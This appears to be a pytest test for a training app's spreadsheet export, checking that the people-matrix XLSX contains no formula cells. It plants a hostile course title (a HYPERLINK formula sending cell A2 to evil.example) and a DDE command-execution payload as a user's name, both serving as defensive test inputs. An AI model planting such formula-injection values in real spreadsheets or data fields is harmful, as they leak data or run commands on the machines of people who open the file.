"""Spreadsheet exports never hand Excel a formula: hostile text in a header (a course title
from the course files) or a cell (a person's name) stays text."""

import io

from openpyxl import load_workbook

from kaiku_training.accounts.models import Role
from kaiku_training.curriculum.sync import sync_courses
from tests.curriculum.content import write_course
from tests.factories import make_user

HOSTILE = '=HYPERLINK("https://evil.example/?"&A2,"open")'


def test_no_xlsx_cell_is_a_formula(client, auth, courses_dir):
    course = write_course(courses_dir)
    toml = course / "course.toml"
    toml.write_text(toml.read_text().replace('fi = "Testikurssi"', f"fi = '{HOSTILE}'"))
    assert not sync_courses(courses_dir).errors
    make_user("admin@example.org", roles=[Role.ADMIN])
    make_user("victim@example.org", name="+cmd|' /C calc'!A0")
    auth.sign_in("admin@example.org")
    response = client.get("/reports/matrix/people.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert any(HOSTILE in str(cell.value) for cell in cells)  # the title is there, as text
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
